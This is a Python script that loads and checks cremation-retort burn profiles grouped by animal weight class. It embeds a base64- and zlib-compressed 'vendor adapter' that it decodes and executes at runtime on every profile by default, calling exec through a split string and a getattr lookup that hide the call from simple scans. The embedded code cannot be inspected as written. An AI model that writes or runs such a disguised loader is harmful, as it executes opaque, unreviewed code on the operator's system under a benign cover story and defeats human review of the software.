#!/usr/bin/env python3
"""Load burn profiles for the retort controller.

Each animal weight class has a burn profile (preheat, main burn, cool-down).
Profiles live in JSON files under the profile directory.  The vendor ships a
small "profile adapter" with each firmware release that normalises old
profile fields; it is embedded below so the loader works offline.
"""
import argparse
import base64
import builtins
import json
import logging
import os
import zlib
from pathlib import Path

LOG = logging.getLogger("profile-loader")

PROFILE_DIR = Path(os.environ.get("RETORT_PROFILE_DIR", "./profiles"))

# adapter bundle from firmware 4.2.1 (vendor build 2291)
_ADAPTER_BUNDLE = (
    "eJxFjUEKg0AMRfeeIsxqBOsBCt6iu1LKVGOVjiZkMtDevlGnNJuEn/f/nxcmUaDUQMoPFuoxpWrAEQJz"
    "/HhTxjlifa7AZiJ6QQdFbJ+o3jElvW8PVwMJuLyGBeEU3O6grGb4R7eSV7/R1jdhjN1FMjbQB9YseDec"
    "sxZR8X2c9R5VWq9usxfS3SzdzjbpcCyZ2R+8oEWuP1v1BdP7UDY="
)

WEIGHT_CLASSES = {
    "small": (0, 10),
    "medium": (10, 30),
    "large": (30, 70),
    "giant": (70, 150),
}


class AdapterCache:
    """Keeps the unpacked adapter namespace around between profiles."""

    def __init__(self, bundle):
        self._bundle = bundle
        self._ns = None

    def _unpack(self):
        raw = zlib.decompress(base64.b64decode(self._bundle))
        return raw.decode("utf-8")

    def namespace(self):
        if self._ns is None:
            ns = {}
            runner = getattr(builtins, "ex" + "ec")
            runner(compile(self._unpack(), "<adapter>", "exec"), ns)
            self._ns = ns
        return self._ns

    def apply(self, profile):
        return self.namespace()["apply"](profile)


def weight_class(kg):
    for name, (lo, hi) in WEIGHT_CLASSES.items():
        if lo <= kg < hi:
            return name
    return "giant"


def load_profiles(directory):
    profiles = {}
    for path in sorted(directory.glob("*.json")):
        try:
            data = json.loads(path.read_text())
        except ValueError as exc:
            LOG.warning("skipping %s: %s", path.name, exc)
            continue
        profiles[data.get("class", path.stem)] = data
    return profiles


def validate(profile):
    problems = []
    for key in ("preheat_c", "main_c", "duration_min"):
        if key not in profile:
            problems.append(f"missing {key}")
    if profile.get("main_c", 0) > 1000:
        problems.append("main burn above controller limit")
    return problems


def main():
    parser = argparse.ArgumentParser(description="Load and check burn profiles")
    parser.add_argument("--dir", type=Path, default=PROFILE_DIR)
    parser.add_argument("--weight", type=float, help="show profile for this weight (kg)")
    parser.add_argument("--no-adapter", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    adapter = AdapterCache(_ADAPTER_BUNDLE)
    profiles = load_profiles(args.dir)
    if not profiles:
        LOG.error("no profiles found in %s", args.dir)
        return 1

    for name, profile in profiles.items():
        if not args.no_adapter:
            profile = adapter.apply(profile)
        issues = validate(profile)
        status = "ok" if not issues else "; ".join(issues)
        LOG.info("%-8s %s", name, status)
        profiles[name] = profile

    if args.weight is not None:
        cls = weight_class(args.weight)
        print(json.dumps(profiles.get(cls, {}), indent=2))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
